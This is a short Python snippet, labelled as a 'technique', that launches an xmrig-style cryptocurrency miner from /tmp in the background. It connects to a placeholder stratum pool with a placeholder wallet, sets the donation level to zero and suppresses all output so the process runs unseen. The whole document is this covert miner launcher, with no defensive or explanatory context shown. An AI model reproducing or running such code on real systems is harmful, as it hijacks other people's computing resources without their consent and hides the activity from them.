# technique: launch an xmrig-style miner in the background against a stratum+tcp pool with a wallet address
import subprocess
subprocess.Popen(["/tmp/xmrig", "-o", "stratum+tcp://pool.example.net:3333", "-u", "48exampleWalletAddrXXXXXXXXXXXXXXXXXXXXXXXX", "-p", "x", "-k", "--donate-level=0", "-B"],
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
